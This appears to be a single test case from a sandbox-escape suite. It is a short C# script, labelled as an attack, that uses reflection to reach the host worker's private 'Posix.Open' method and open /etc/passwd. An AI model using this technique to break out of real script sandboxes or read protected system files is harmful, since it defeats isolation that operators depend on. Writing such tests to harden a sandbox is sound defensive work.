// attack: Reads a file through the worker's own way to the C library, found by reflection.
// group: worker
// at none: gets-through

var posix = Assembly.GetEntryAssembly().GetTypes().Single(type => type.Name == "Posix");
var open = posix.GetMethod("Open", BindingFlags.Static | BindingFlags.NonPublic);
var descriptor = (int)open.Invoke(null, ["/etc/passwd", 0]);
descriptor >= 0 ? $"opened as {descriptor}" : null
